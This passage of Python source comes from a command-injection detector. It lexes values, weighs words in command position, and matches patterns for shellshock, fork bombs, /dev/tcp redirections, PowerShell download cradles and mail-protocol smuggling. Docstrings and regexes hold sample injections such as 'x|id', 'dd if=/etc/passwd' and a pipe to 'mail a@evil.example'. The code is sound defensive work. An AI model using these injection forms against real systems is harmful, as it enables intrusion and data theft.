    if t.startswith((*SENSITIVE_FILES, *SENSITIVE_DIRS)):
        return True
    w = word.win
    if w.startswith(SENSITIVE_DIRS) or w.replace("\\\\", "\\").startswith(SENSITIVE_DIRS):
        return True
    if "=" in t:  # dd if=/etc/passwd
        return t[t.index("=") + 1 :].startswith(SENSITIVE_FILES)
    if word.flags & GLOB and "/" in t:
        hit = _glob_find(t, True)
        return hit is not None and hit in SENSITIVE_FILES
    return False


class _Lazy:
    """A regex compiled on first use: most values never need it (cold start).

    Example:
        >>> _Lazy(r"a{1,3}").rx.fullmatch("aa") is not None
        True
    """

    __slots__ = ("_rx", "pattern")

    def __init__(self, pattern: str) -> None:
        self.pattern = pattern
        self._rx: re.Pattern[str] | None = None
        PATTERNS.append((pattern, 0))  # recorded by the layer build like the others

    @property
    def rx(self) -> re.Pattern[str]:
        if self._rx is None:
            self._rx = compile_pattern(self.pattern, 0)
        return self._rx


#: A regex's alternation of plain names, glued to a word (``(net|free|open)bsd``,
#: ``tclwin(get|set)sockopt``): no shell syntax (a word glued to a subshell's brackets is an
#: error), so its bars are no pipes. ``$(a|b)``, ``<(a|b)``, ``(a||b)`` and a subshell before a
#: redirection (``(env|base64)2>&1``) are not concerned.
_ALTERNATION: Final = _Lazy(
    r"(?<=[a-z0-9_])\((?![^)]{0,200}\|\|)[\w.-]{1,40}\|[\w.|-]{1,200}\)"
    r"|(?<![$<>a-z0-9_])\((?![^)]{0,200}\|\|)[\w.-]{1,40}\|[\w.|-]{1,200}\)(?=[a-z_])"
)
#: A variable that is a whole path component: ``/$pid/``, ``/${pid}``, ``/$$/``.
_COMPONENT_VAR: Final = _Lazy(r"(?<=/)\$(?:\{[a-z_][a-z0-9_]{0,30}\}|[a-z_][a-z0-9_]{0,30}|\$)(?=/|$)")
#: A brace group of plain names right after a slash: ``/etc/{group,passwd}``.
_PATH_BRACE: Final = _Lazy(r"(?<=/)\{[\w.-]{1,40},[\w.,-]{1,400}\}")
#: A bracket class of a glob (``[0-9]``, ``[!a]``).
_GLOB_CLASS: Final = _Lazy(r"\[!?[^\]/]{1,40}\]")
_IP: Final = compile_rx(r"\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}(?::\d{1,5})?")
_HOST: Final = compile_rx(
    r"[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){1,6}(?::\d{1,5})?(?:/\S{0,200})?"
)
_FILE: Final = compile_rx(r"[\w.-]{0,80}\.[a-z0-9]{1,5}")
_WINPATH: Final = compile_rx(r"[a-z]:\\|\\\\[a-z0-9]|%[a-z_]{2,20}%")
_URL: Final = compile_rx(r"[a-z][a-z0-9+.-]{1,10}://")
_CLOCK: Final = _Lazy(r"\d{1,2}:\d\d(?:[ap]m)?|now|midnight|noon|teatime")


def _emphasis(t: str) -> bool:
    """Whether a word is markup's emphasis, or the first word of an emphasised phrase (``*key*``,
    ``**env**``, ``**Do not ...**``), not a glob naming a command: a relative glob expands to the
    names of files in the working directory, and ``*env*`` written as an evasion would run no
    ``env``.

    Example:
        >>> _emphasis("*key*"), _emphasis("**env**"), _emphasis("**do"), _emphasis("*hoam?"), _emphasis("w*i")
        (True, True, True, False, False)
    """
    inner = t.strip("*")
    return t[:1] == "*" and inner.replace("-", "").replace("_", "").isalnum()


def _command_name(word: Word) -> tuple[str, bool] | None:
    """The command a word names, and whether it named it by path (``/usr/bin/id``: ``id``).

    Example:
        >>> _command_name(lex("/usr/bin/id")[0]), _command_name(lex("cat.exe")[0])
        (('id', True), ('cat', False))
    """
    t = word.text
    if not t:
        return None
    if t[0] == "/":
        if word.flags & GLOB:
            hit = _glob_find(t, True)
            if hit is None or hit in SENSITIVE_FILES:
                return None
            return hit[hit.rindex("/") + 1 :], True
        for d in BIN_DIRS:
            if t.startswith(d):
                base = t[len(d) :].removesuffix(".exe")
                if base and base.replace("-", "").replace("_", "").replace(".", "").isalnum():
                    return base, True
                return None
        return None
    if "\\" in word.win and _WINPATH.match(word.win):  # c:\windows\system32\cmd.exe
        t = word.win[word.win.rindex("\\") + 1 :]
    t = t.removesuffix(".exe")
    if t in _WIN_VARS:
        return _WIN_VARS[t], True
    if t in COMMANDS:
        return t, False
    if t.startswith("python") and t[6:].replace(".", "").isdigit():
        return "python3", False
    if word.flags & GLOB and "/" not in t and not _emphasis(t):
        hit = _glob_find(t, False)
        if hit is not None:
            return hit, False
    return None


def _arg_level(word: Word, cmd: str) -> int:
    """How command-like an argument of ``cmd`` is: 3 a sensitive file; 2 a flag, an
    absolute or Windows path, an IP address, a URL to a network tool; 1 a file or host
    name, a number, a variable; 0 a word."""
    t = word.text
    if not t:
        return 1 if word.flags & VAR else 0
    c = t[0]
    if _sensitive(word):
        return 3
    if c == "-":
        return 2 if t[1:2].isalnum() or t[1:2] == "-" and t[2:3].isalnum() else 0
    if c == "/":
        return 2 if t[1:2] != "/" else 1
    if c in "~." and (t in ("~", ".", "..") or t.startswith(("~/", "./", "../"))):
        return 2
    if "\\" in word.win and _WINPATH.match(word.win) or c == "%" and _WINPATH.match(t):
        return 2
    if _URL.match(t):
        return 2 if cmd in NETWORK else 1
    if t.isdigit():
        return 2 if cmd in NUMERIC else 1
    if c.isdigit() and _IP.fullmatch(t):
        return 2
    if cmd in LOOKUPS and t in COMMANDS or t in SUBCOMMANDS.get(cmd, ()):
        return 2  # which gcc, net user
    if cmd == "at" and _CLOCK.rx.fullmatch(t) or cmd == "alias" and "=" in t and t[t.index("=") + 1 :] in COMMANDS:
        return 2  # at 2:00, alias ls=rm (not "alias ... alias": a word repeated in prose)
    if word.flags & VAR or _FILE.fullmatch(t) or _HOST.fullmatch(t):
        return 1
    return 0


def _redir_level(op: Op, target: Word | None) -> int:
    """How strong a redirection is: 3 to /dev/tcp, from a sensitive file, into a script;
    2 to a path, a descriptor (``2>&1``) or a here-string; 1 to a file name; 0 otherwise
    (``<b>bold</b>`` is markup)."""
    t = target.text if target is not None else ""
    if "&" in op.text[1:] and (op.text[-1:].isdigit() or t[:1].isdigit() or t.startswith("/dev/")):
        return 3 if t.startswith(("/dev/tcp/", "/dev/udp/")) else 2
    if target is None or not t:
        return 0
    if _sensitive(target) or t.endswith(SCRIPT_EXTS):
        return 3
    if t.startswith(("/", "~/", "./", "../")) or op.text == "<<<":
        return 2
    return 1 if _FILE.fullmatch(t) else 0


# --- commands -----------------------------------------------------------------------

# Contexts of a command position.
_START = 0  # the start of the value (or of a command line that started it)
_SEP = 1  # after a separator that follows nothing or one token (x|id)
_PROSE = 2  # after a separator or in $( ) that follows prose or a script
_SUBST = 3  # inside $( ), <( ), >( ) or backticks
_INLINE = 4  # a cmdlet standing anywhere
_MARKDOWN = 5  # a markdown code span or a SQL identifier in backticks
#: Separators prose does not write (a sentence's ";" and "&" are punctuation and "and").
_PIPES: Final = frozenset(("|", "||", "&&"))
_ENDS: Final = frozenset(("sep", "nl", "close", "rp", "ungroup", "group", "sub", "lp"))


#: Words that continue a sentence after "if a == b", where cmd.exe would want its command.
_PROSE_AFTER_IF: Final = frozenset({"it", "the", "a", "an", "this", "that", "we", "you", "they", "then",
                                    "returns", "return", "is"})


def _batch(items: list[Word | Op], i: int, n: int) -> int:
    """End index of a cmd.exe ``IF``/``FOR`` statement starting at ``items[i]``, or -1.

    Example:
        >>> t = lex('for /f "tokens=*" %%g in (x) do echo %%g'); _batch(t, 0, len(t))
        5
    """
    head = items[i]
    assert isinstance(head, Word)
    j = i + 1
    if head.text == "for":  # for [/d /r /l /f [options|path]] %%v in (
        for k in range(j, min(n, j + 8)):
            w = items[k]
            if isinstance(w, Op):
                return -1
            if w.text == "in" and k > j:
                prev = items[k - 1]
                nxt = items[k + 1] if k + 1 < n else None
                var = isinstance(prev, Word) and prev.text[:1] == "%" and len(prev.text) <= 32
                return k + 1 if var and isinstance(nxt, Op) and nxt.kind == "lp" else -1
        return -1
    if head.text not in ("if", "if/i"):
        return -1
    # if [/i] [not] (exist|defined|errorlevel) x cmd | if a==b cmd | if a equ b cmd
    seq: list[str] = []
    k = j
    while k < n and len(seq) < 12:
        w = items[k]
        if isinstance(w, Op) and w.kind not in ("lp", "rp"):
            break
        seq.append(w.text)
        k += 1
    while seq and seq[0] in ("/i", "not"):
        seq.pop(0)
    if len(seq) < 2:
        return -1
    if seq[0] in _BATCH_TESTS:
        if seq[1] in STOPWORDS or seq[1].endswith((":", ",")):
            return -1  # prose: "if defined by the user"
        return k if len(seq) >= 3 or seq[0] == "exist" else -1
    depth = 0
    for x, t in enumerate(seq[:6]):
        if t == "(":
            depth += 1
        elif t == ")":
            depth -= 1
        elif "==" in t or (t in _BATCH_OPS and x > 0):
            if depth > 0 and "==" in t:
                return -1  # if (a == b): C, JavaScript
            if any(o.endswith(":") for o in seq[max(0, x - 1) : x + 2]):
                return -1  # python: if x == 1:
            rest = seq[x + 1 :] if t.endswith("=") or t in _BATCH_OPS else seq[x:]
            r = 0
            while r < len(rest) and rest[r] in ("(", ")"):
                r += 1
            # the right operand, then a command or a block; not a sentence going on ("if x == true
            # it yields", "if factor_index==true, returns a tuple")
            if len(rest) <= r + 1 or rest[r + 1] in _PROSE_AFTER_IF:
                return -1
            return k
    return -1


def _commands(items: list[Word | Op], out: list[Span], rows: list[tuple[int, int]] | None = None) -> None:
    """Find the words in command position and keep the commands their context and
    arguments make an injection of (appended to ``out``); ``rows``: the spans of the value's
    markdown table rows (see :func:`_table_rows`)."""
    n = len(items)
    last = -1  # index of the last word
    for x, it in enumerate(items):
        if isinstance(it, Word):
            last = x
    chained = False  # a known command followed a parameter-like separator: a list follows
    cmdline = False  # a known command starts the value: what follows is one command line
    i = 0
    ctx = _START
    sep = ""
    sep_ctx = 0
    expect = True
    while i < n:
        it = items[i]
        if isinstance(it, Op):
            k = it.kind
            if k == "sep" or k == "nl":
                expect = True
                sep = it.text
                sep_ctx = it.ctx
                if cmdline:
                    ctx = _START
                elif it.ctx < 2 or chained:
                    ctx = _SEP
                else:
                    ctx = _PROSE if k == "sep" else -1  # the lines of a text: not commands
            elif k == "sub":
                expect = True
                sep = it.text
                sep_ctx = 0
                ctx = _SUBST if it.ctx < 2 else (_MARKDOWN if it.text == "`" else _PROSE)
            elif k == "group":
                expect = True
            elif k in ("rp", "close", "ungroup"):
                expect = False
            elif k == "redir" and i + 1 < n and isinstance(items[i + 1], Word):
                i += 1  # the redirection's target
            i += 1
            continue
        tail = it.text[it.text.rfind("=") + 1 :]  # probe="invoke-webrequest http://.."
        if tail in INLINE and (not expect or ctx < 0 or tail != it.text):
            items[i] = Word(tail, tail, it.end - len(tail), it.end, 0)
            i = _command(items, i, n, _INLINE, "", 2, False, out)[0]
            continue
        if not expect or ctx < 0:
            i += 1
            continue
        expect = False
        found = len(out)
        at_start = ctx == _START and not cmdline
        cell = bool(rows) and sep == "|" and _in_rows(rows, it.start)
        i, known = _command(items, i, n, ctx, sep, sep_ctx, last == i, out, cell)
        if known and ctx == _SEP:
            chained = True
        if known and at_start and len(out) == found:
            cmdline = True


#: Words looked at before a separator by :func:`_script_before`.
SCRIPT_LOOKBACK: Final = 8


def _script_before(items: list[Word | Op], i: int) -> bool:
    """Whether a build tool, a shell or a download tool is among the last words before the
    separator ahead of ``items[i]``: a script quoted in prose (``run make test || cat test.log``).

    Example:
        >>> t = lex("run make test || cat test.log"); _script_before(t, 4)
        True
    """
    j = i - 1
    while j >= 0 and isinstance(items[j], Op):
        j -= 1
    for _ in range(SCRIPT_LOOKBACK):
        if j < 0:
            break
        w = items[j]
        if not isinstance(w, Word):
            break
        if w.text in BUILD or w.text in SHELLS or w.text in TOOLS:
            return True
        j -= 1
    return False


#: Recon commands whose output is the environment (in a Lambda, its AWS credentials): never an operand.
_SECRETS_DUMPS: Final = frozenset({"env", "printenv"})


def _between_words(items: list[Word | Op], i: int, j: int) -> bool:
    """Whether the command from ``items[i]`` to the operator ``items[j]`` stands between two ``|``
    set apart by blanks, with a plain word on each side that names no command, the second one
    taking no argument (``int | set | none``, a union type; not ``1|id|x``, nor ``x | id | mail
    a@evil.example``).

    Example:
        >>> t = lex("int | set | none"); _between_words(t, 2, 3), _between_words(lex("ls | id | nc x"), 2, 3)
        (True, False)
    """
    if i < 2 or j + 1 >= len(items):
        return False
    sep, before, pipe, after = items[i - 1], items[i - 2], items[j], items[j + 1]
    follows = items[j + 2] if j + 2 < len(items) else None  # the plain word stands alone: no arguments
    return (isinstance(sep, Op) and sep.text == "|" and isinstance(pipe, Op) and pipe.text == "|"
            and isinstance(before, Word) and isinstance(after, Word) and not before.flags and not after.flags
            and sep.end < items[i].start and pipe.start > items[j - 1].end and not isinstance(follows, Word)
            and _command_name(before) is None and _command_name(after) is None)


def _command(
    items: list[Word | Op],
    i: int,
    n: int,
    ctx: int,
    sep: str,
    sep_ctx: int,
    alone: bool,
    out: list[Span],
    cell: bool = False,
) -> tuple[int, bool]:
    """Weigh the command at ``items[i]`` in context ``ctx`` after separator ``sep``
    (``sep_ctx``: see :class:`Op`; ``alone``: no word follows, as in ``127.0.0.1\\nid``;
    ``cell``: the ``|`` before it borders a cell of a markdown table).

    Return the index after its arguments and whether it was a known command (not a prefix).
    """
    first = items[i]
    assert isinstance(first, Word)
    # assignments, empty variables and prefixes (sudo, time, nohup, env) before the command
    k = i
    var_cmd: Word | None = None
    while k < n:
        w = items[k]
        if not isinstance(w, Word):
            break
        t = w.text
        nxt = items[k + 1] if k + 1 < n else None
        if not t:
            if w.flags & VAR and var_cmd is None:
                var_cmd = w
            if not isinstance(nxt, Word):
                break
            k += 1
            continue
        if not isinstance(nxt, Word):
            break
        eq = t.find("=")
        if eq > 0 and t[:eq].replace("_", "").isalnum():  # a=b cmd
            k += 1
        elif t in PREFIXES and _command_name(nxt) is not None:  # sudo cmd, but: time express
            k += 1
        else:
            break
    if k >= n or not isinstance(items[k], Word):
        return k, False
    word = items[k]
    assert isinstance(word, Word)
    if word.text in ("if", "for", "if/i") and ctx in (_START, _SEP):
        e = _batch(items, k, n)
        if e > 0:
            out.append(("windows-batch", word.start, items[e - 1].end))
            return e, True
    nxt = items[k + 1] if k + 1 < n else None
    if isinstance(nxt, Op) and nxt.kind == "lp" and nxt.start == word.end and not word.flags & OBF:
        return k + 1, False  # sleep(5), eval(x): a function call in code
    found = _command_name(word)
    # the arguments, up to the end of the simple command (bounded look-ahead)
    j = k + 1
    nargs = redirs = flags = level = 0
    prose = weak = False
    last_end = word.end
    while j < n and j - k <= 24:
        a = items[j]
        if isinstance(a, Op):
            if a.kind in _ENDS:
                break
            if a.kind == "redir":
                target = items[j + 1] if j + 1 < n else None
                target = target if isinstance(target, Word) else None
                redirs += 1
                level = max(level, _redir_level(a, target))
                last_end = a.end
                if target is not None:
                    last_end = target.end
                    j += 1
            j += 1
            continue
        nargs += 1
        t = a.text
        prose = prose or t in STOPWORDS
        if t[:1] == "-" and t[1:2].isalpha() or t[:1] == "/" and len(t) <= 3:
            flags += 1  # -c, --norc, cmd.exe's /c
        if found is not None:
            arg = _arg_level(a, found[0])
            level = max(level, arg)
            weak = weak or arg == 0
        last_end = a.end
        j += 1
    # the command ends the value or its line: nothing of the sentence goes on after it
    after = items[j] if j < n else None
    ends = after is None or isinstance(after, Op) and after.kind in ("sep", "nl")
    while j < n and isinstance(items[j], Word):  # a very long command: skip the rest
        j += 1
    if found is None:
        if var_cmd is not None and ctx == _SEP and (k == i or var_cmd is first):
            out.append(("command-after-separator", var_cmd.start, last_end))  # ;$c $a$b
            return j, False
        return k + 1, False  # not a command: its "arguments" are ordinary words
    name, by_path = found
    bare = nargs == 0 and redirs == 0
    obf = bool(word.flags & (OBF | ESC | GLOB | BRACE)) or by_path and bool(word.flags & VAR)
    # R: RECON, r: RECON_WORDS, T: TOOLS (or any binary by path), E: WORDS
    if by_path:
        cls = "R" if name in RECON else "T"
    elif name in RECON:
        cls = "R"
    elif name in RECON_WORDS:
        cls = "r"
    elif name in TOOLS:
        cls = "T"
    else:
        cls = "E"
    eff = ctx
    if ctx == _PROSE and sep in _PIPES and cls != "T" and name not in SHELLS and name not in BUILD \
            and not _script_before(items, i):
        eff = _SEP  # "... it was great | id": a sentence has no pipe; a script's "| sh", "make || cat" stay prose
    elif ctx == _PROSE and sep in (";", "&") and nargs and not weak and level >= 2 and ends \
            and not _script_before(items, i):
        eff = _SEP  # "... it was great; sleep 10", "& ls -l /tmp": only command-like arguments, to the end
    if obf and ctx in (_START, _PROSE, _MARKDOWN) or by_path and ctx == _START:
        eff = _SEP  # /usr/bin/id, 'i'fconfig: nobody writes these in prose
    if alone and k == i and word.flags & QUO and cls in ("R", "r"):
        eff = _SEP  # the whole value is a quoted command: 'id'
    if cls == "R" and eff != _MARKDOWN:
        ok = bare or level >= 1 or eff != _PROSE
    elif eff == _SUBST or obf and ctx == _SEP:
        ok = True
    elif eff == _SEP:
        if sep in _NEWLINES and bare and not alone and cls != "T":
            ok = False  # one word per line: a GraphQL selection, a list
        elif cls == "E":  # ;env |more: nothing before the separator; a&start is a query string
            ok = level >= 1 or bare and sep != "&" and sep_ctx == 0
        else:
            ok = bare or level >= 1 or cls == "T"
    elif eff == _INLINE:
        ok = level >= 2
    elif eff in (_PROSE, _MARKDOWN) or name in BUILD:
        ok = level >= 3  # prose, a CI step, a package script: only a sensitive argument
    elif name in SHELLS:  # the whole value: sh -c .., bash -i .., sh<<<..; not sh build.sh
        ok = level >= 3 or flags > 0 or redirs > 0
    else:  # the whole value: a command with command-like arguments, not prose
        ok = (level >= 2 or cls == "T" and nargs >= 1) and not prose
    if cell and cls in ("R", "r") and bare and not obf and not by_path and i > 0 and items[i - 1].end < word.start \
            and isinstance(after, Op) and after.start > word.end:
        ok = False  # | id | name |: a table's column named like a recon command (|reboot|x|, |id|| still run)
    elif cls in ("R", "r") and bare and not obf and not by_path and sep == "|" and name not in _SECRETS_DUMPS \
            and _between_words(items, i, k + 1):
        ok = False  # int | set | none: an operand; piped on to a plain word, its output shows nowhere
    if not ok:
        return j, name not in PREFIXES
    if obf:
        kind = "evasion"
    elif name in POWERSHELL:
        kind = "powershell"
    elif ctx == _SUBST:
        kind = "substitution"
    elif ctx == _START:
        kind = "command-line"
    elif name in WINDOWS and sep != ";":
        kind = "windows-command"
    else:
        kind = "command-after-separator"
    out.append((kind, word.start, last_end))
    return j, True


# --- structures outside command position ------------------------------------------------

#: GNU-style quotation, which prose uses: ```word'`` opens with a backtick, closes with ``'``. The
#: backtick opens a word (start, a blank, a bracket, ``"`` or ``=`` before it, a character after):
#: the closing backtick of a code span (":pep:`749` style ... it's") is not one.
_GNU_QUOTE: Final = _Lazy(r"(?<![^\s(\[{\"=])`(?=[^\s`'])([^`'\n]{1,80})'")
#: A reStructuredText inline literal (````str()````, ````u''````) standing as a word of its own:
#: its two pairs of backticks are empty substitutions to a shell (they vanish); read as blanks,
#: so that the literal's content is judged as the words it is, and a GNU-style quotation rule
#: does not take ````u''```` for a quoted ``u``.
_RST_CODE: Final = _Lazy(r"(?<![^\s(])``(?=[^`\s])[^`\n]{1,200}``(?![`\w])")
_RST_ROLE: Final = _Lazy(r"(?<![^\s(]):[a-z][\w.+-]{0,30}(?::[a-z][\w.+-]{0,30})?:$")
_SHELLSHOCK: Final = _Lazy(r"\(\s{0,5}\)\s{0,5}\{")
_FORKBOMB: Final = _Lazy(
    r"([a-z_:][\w:.-]{0,30})\s{0,3}\(\s{0,3}\)\s{0,3}\{[^}]{0,100}?(?<![\w:.-])\1\s{0,3}\|"
    r"\s{0,3}\1"
)
_CALL: Final = _Lazy(
    r"(?:((?<=[\w)\]])\.)|(?<![\w$>.-]))"  # obj.exec( or exec( standing alone
    r"(" + "|".join(sorted(SHELL_CALLS | EVAL_CALLS)) + r")"
    r"(?:\s{0,3}\(\s{0,3}|\s{1,3})(['\"`$])"  # then a string or a variable
)
_RUBY_X: Final = _Lazy(r"%x[({\[]")
_QUOTED: Final = _Lazy(
    r"'([^'\n]{0,200})'|\"([^\"\n]{0,200})\"|`([^`\n]{0,200})`|[({\[]([^)}\]\n]{0,200})[)}\]]"
)
_PHP_COMPLEX: Final = _Lazy(
    r"\{\$\{\s{0,3}@?[a-z_][a-z0-9_]{0,30}\s{0,3}\(|\bphpinfo\s{0,3}\(\s{0,3}\)"
)
_SSI: Final = _Lazy(r"<!--\s{0,3}#\s{0,3}exec\s{1,5}(?:cmd|cgi)\s{0,3}=")
_POWERSHELL_CALL: Final = _Lazy(
    r"(?<![\w-])(?:iex|invoke-expression)\s{0,3}\(|\.download(?:string|file|data)\s{0,3}\("
    r"|net\.webclient|frombase64string\s{0,3}\("
)
_PARAM_EXPANSION: Final = _Lazy(
    r"\$\{[a-z_][a-z0-9_]{0,30}(?:#|%|//|\^|,|:[+?]|:-?\d{1,3}:\d)|\$\(\("
)
_HISTORY: Final = _Lazy(r"(?:^|[;&|\n]\s{0,3})!-\d{1,3}")
_TILDE: Final = _Lazy(r"[\s'\"]{0,5}~(?:[+-]\d{0,2}|\d{1,2})[\s'\"]{0,5}")
_SCRIPT_WRITE: Final = _Lazy(
    r">>?\s{0,3}[\w./-]{0,100}\.(?:php\d?|phtml|jsp|jspx|asp|aspx|sh|py|pl|cgi)(?![\w.])"
)
_WRITER: Final = _Lazy(r"(?<![\w-])(?:echo|printf|print|cat)\s")
_DEV_NET: Final = _Lazy(r"[<>&]\s{0,3}/dev/(?:tcp|udp)/[\w.-]{1,100}/\d{1,5}")
_MAIL: Final = _Lazy(
    r"[\r\n][ \t]{0,5}(?:"
    r"(?:rcpt[ \t]{1,5}to|mail[ \t]{1,5}from)[ \t]{0,5}:"
    r"|(?:helo|ehlo)[ \t]{1,5}[\w.-]{1,100}[ \t]{0,5}(?:\r|\n|$)"
    r"|data[ \t]{0,5}(?:[\"'<]|$)"
    r"|(?:vrfy|expn|apop|retr|dele|uidl)[ \t]{1,5}\S"
    r"|[a-z]{1,2}\d{1,4}[ \t]{1,5}(?:authenticate|list|lsub|select|examine|status|append|"
    r"fetch|store|login|logout|create|delete|rename|capability|noop|uid|search|copy|"
    r"subscribe|expunge)\b"
    r")"
)
#: Code strings checked per value by :func:`_calls` (each is lexed: bounded work).
_CALLS_CHECKED: Final = 8


def _runs_command(inner: str, strict: bool) -> bool:
    """Whether a code string is a command (``strict``: a whole command line, not a name)."""
    sub: list[Span] = []
    _commands(lex(inner)[:64], sub)
    if sub or strict:
        return bool(sub)
    return _command_name(Word(inner.split(" ", 1)[0], "", 0, 0, 0)) is not None


def _calls(text: str, out: list[Span]) -> None:
    """``system('..')``, ``exec('<command>')``, ``%x(<command>)``, SSI exec, ``{${f()}}``."""
    checked = 0
    for m in _CALL.rx.finditer(text):
        method, fn = m.group(1), m.group(2)
        if fn in SHELL_CALLS and not method and "(" in m.group():
            out.append(("code-exec", m.start(), m.end()))
            continue
        q = _QUOTED.rx.match(text, m.end() - 1)
        if q is None or checked >= _CALLS_CHECKED:
            continue
        checked += 1
        if _runs_command(q.group(1) or q.group(2) or q.group(3) or "", bool(method)):
            out.append(("code-exec", m.start(), q.end()))
    if "%x" in text:
        for m in _RUBY_X.rx.finditer(text):
            q = _QUOTED.rx.match(text, m.end() - 1)
            if q is not None and checked < _CALLS_CHECKED:
                checked += 1
                if _runs_command(q.group(4) or "", False):
                    out.append(("code-exec", m.start(), q.end()))
    for lazy in (_PHP_COMPLEX, _SSI):
        m2 = lazy.rx.search(text)
        if m2 is not None:
            out.append(("code-exec", m2.start(), m2.end()))


def _structures(text: str, out: list[Span]) -> None:
    """Structures found outside command position, each behind a cheap ``in`` test."""
    if ">" in text and ("echo" in text or "print" in text or "cat" in text):
        for x, sw in enumerate(_SCRIPT_WRITE.rx.finditer(text)):  # echo '<?php ..' > x.php
            line = max(text.rfind("\n", max(0, sw.start() - 400), sw.start()) + 1,
                       sw.start() - 400)
            wr = _WRITER.rx.search(text, line, sw.start())
            if wr is not None:
                out.append(("redirection", wr.start(), sw.end()))
            if wr is not None or x >= 8:
                break
    if "/dev/" in text:
        out.extend(("redirection", m.start(), m.end()) for m in _DEV_NET.rx.finditer(text))
    if "(" in text:
        s = text.lstrip(" \t\r\n\"'")
        if s.startswith("(") and _SHELLSHOCK.rx.match(s):
            off = len(text) - len(s)
            out.append(("shellshock", off, off + 3))
        elif "){" in text or ") {" in text:
            fb = _FORKBOMB.rx.search(text)
            if fb is not None:
                out.append(("shellshock", fb.start(), fb.end()))
        _calls(text, out)
        pm = _POWERSHELL_CALL.rx.search(text)
        if pm is not None:
            out.append(("powershell", pm.start(), pm.end()))
    elif "<!--" in text or "%x" in text or "system" in text:
        _calls(text, out)
    if "!-" in text:
        hm = _HISTORY.rx.search(text)
        if hm is not None:
            out.append(("command-line", hm.start(), hm.end()))
    if "$" in text:
        pe = _PARAM_EXPANSION.rx.search(text)
        if pe is not None:
            kind = "substitution" if pe.group() == "$((" else "evasion"
            out.append((kind, pe.start(), pe.end()))
    if "\r" in text:
        mm = _MAIL.rx.search(text)
        if mm is not None:
            out.append(("mail-command", mm.start(), mm.end()))


# --- entry point ----------------------------------------------------------------------

#: A markdown table row: a line that starts and ends with ``|`` and holds two cells or more.
_TABLE_ROW: Final = _Lazy(
    r"(?m)^[ \t]*\|[^|\n]*\|[^\n]*\|[ \t\r]*$"  # | id | name |
    # a one-cell row under or over a box's border line (+-----+, psql's and mysql's tables)
    r"|^[ \t]*\+[-=+]{3,}\+[ \t\r]*\n[ \t]*\|[^|\n]*\|[ \t\r]*$"
    r"|^[ \t]*\|[^|\n]*\|[ \t\r]*\n[ \t]*\+[-=+]{3,}\+[ \t\r]*$"
)


def _in_rows(rows: list[tuple[int, int]] | None, at: int) -> bool:
    """Whether position ``at`` lies in one of ``rows`` (sorted, disjoint spans): a binary search,
    so a value of many rows and many commands stays linear.

    Example:
        >>> _in_rows([(0, 5), (9, 12)], 10), _in_rows([(0, 5), (9, 12)], 6)
        (True, False)
    """
    if not rows:
        return False
    x = bisect_right(rows, (at, 1 << 62)) - 1  # the last row starting at or before ``at``
    return x >= 0 and rows[x][0] <= at < rows[x][1]


def _table_rows(text: str) -> list[tuple[int, int]]:
    """The spans of the markdown table rows of ``text`` (``| id | name |``): their ``|`` border
    cells, and a bare word in a cell is a column's name, not a command in a pipeline.

    Example:
        >>> _table_rows("| id | name |\\n|----|------|"), _table_rows("x | id")
        ([(0, 13), (14, 27)], [])
        >>> _table_rows("+------+\\n| ID (4 bytes) |\\n+------+")
        [(0, 25)]
    """
    if "|" not in text:
        return []
    return [m.span() for m in _TABLE_ROW.rx.finditer(text)]


#: Spans returned at most (the first ones): one is enough to decide.
MAX_SPANS: Final = 32
#: A value holding none of these characters is decided by its first word alone.
_TRIGGERS: Final = frozenset(";|&`$<>(){}'\"\\^*?[\n\r!")
_HEAD: Final = compile_rx(r"[ \t+]{0,64}([^ \t+]{1,64})")
_HEADS: Final = COMMANDS | PREFIXES | frozenset(("if", "if/i", "for", *_WIN_VARS))
#: Characters without which no quoting, variable, glob, brace, redirection, substitution, escape,
#: assignment or newline can be in the value: it is then only words, blanks and ``; | & ( )``.
_HARD: Final = frozenset("`$<>{}'\"\\^*?[]\n\r!%~=\x1b")
#: The first word of each stretch between ``; | & ( )`` (and of the value): the command positions.
_SEGMENT_HEADS: Final = compile_rx(r"(?:^|[;|&()])[ \t\f\v+]*([^ \t\f\v+;|&()]+)")
#: Texts that make the later stages look further whatever the command positions hold.
_LOOK_FURTHER: Final = ("invoke-", "start-process", "iex", ".download", "net.webclient", "frombase64string",
                        "/dev/", "phpinfo")


def _no_command_position(text: str) -> bool:
    """Whether ``text`` is only words, blanks and ``; | & ( )`` (a user agent, a list, a query
    string without ``=``) with no command word where the shell would run one: then nothing below
    can find a structure, and the lexer is skipped. Conservative: a word that could be a command
    (a known command, a prefix such as ``sudo``, a binary path, ``python3``, ``x.exe``) sends the
    value to the lexer, which decides.

    Example:
        >>> _no_command_position("mozilla/5.0 (x11; linux x86_64) applewebkit/537.36 (khtml, like gecko)")
        True
        >>> _no_command_position("x11; id"), _no_command_position("a $(id)")
        (False, False)
    """
    if not _HARD.isdisjoint(text):
        return False
    for needle in _LOOK_FURTHER:
        if needle in text:
            return False
    for head in _SEGMENT_HEADS.findall(text):
        word = head.removesuffix(".exe")
        if word in _HEADS or word.startswith(BIN_DIRS) or word.startswith("python"):
            return False
    return True


def _blank(m: re.Match[str]) -> str:
    """Blanks as long as ``m`` (spans still fit)."""
    return " " * (m.end() - m.start())


def _rst_blank(m: re.Match[str]) -> str:
    """The literal ``m`` with its backtick pairs as blanks (same length: spans still fit)."""
    return "  " + m.group()[2:-2] + "  "


def detect(text: str, stop: frozenset[str] = frozenset()) -> list[Span]:
    """Command-injection structures in the normalised ``text``, as ``(kind, start, end)``; a command
    of a kind in ``stop`` (it decides the value) spares the look for file names behind shell
    tricks and for the other structures.

    Example:
        >>> detect("x|id")
        [('command-after-separator', 2, 4)]
        >>> detect("sudo make me a sandwich"), detect("echo is a command")
        ([], [])
    """
    if len(text) < 2:
        return []
    if "~" in text[:6] and _TILDE.rx.fullmatch(text):  # ~+ ~- ~1: the directory stack
        return [("command-line", text.index("~"), len(text.rstrip(" \t\r\n'\"")))]
    if _TRIGGERS.isdisjoint(text):  # plain words: only a command line can be there
        m = _HEAD.match(text)
        head = m.group(1) if m else ""
        if head not in _HEADS and not head.startswith(BIN_DIRS) and not head.endswith(".exe"):
            return []
    elif _no_command_position(text):  # words, blanks and ; | & ( ) with no command where one runs
        return []
    out: list[Span] = []
    _GLOB_BUDGET[0] = GLOB_SEARCHES
    if "`" in text:  # GNU-style quotation in prose (`test -w f'): a quote, not a substitution
        if "``" in text:
            text = _RST_CODE.rx.sub(_rst_blank, text)
        text = _GNU_QUOTE.rx.sub(r"'\1'", text)  # same length: the spans still fit
